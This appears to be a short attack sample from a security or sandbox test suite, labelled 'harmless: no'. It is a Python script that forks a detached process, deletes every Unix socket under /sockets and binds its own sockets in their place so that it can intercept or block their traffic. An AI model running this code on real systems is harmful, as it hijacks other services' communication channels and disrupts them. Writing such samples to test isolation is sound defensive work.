# attack: a process with the name of the kernel holds its folder and answers on its sockets
# harmless: no
import glob
import os
import socket
import time

if os.fork() == 0:
    os.setsid()
    for path in [*glob.glob("/sockets/*/*"), *glob.glob("/sockets/*")]:
        try:
            os.unlink(path)
            socket.socket(socket.AF_UNIX).bind(path)
        except OSError as error:
            print(error)
    while True:
        time.sleep(1)
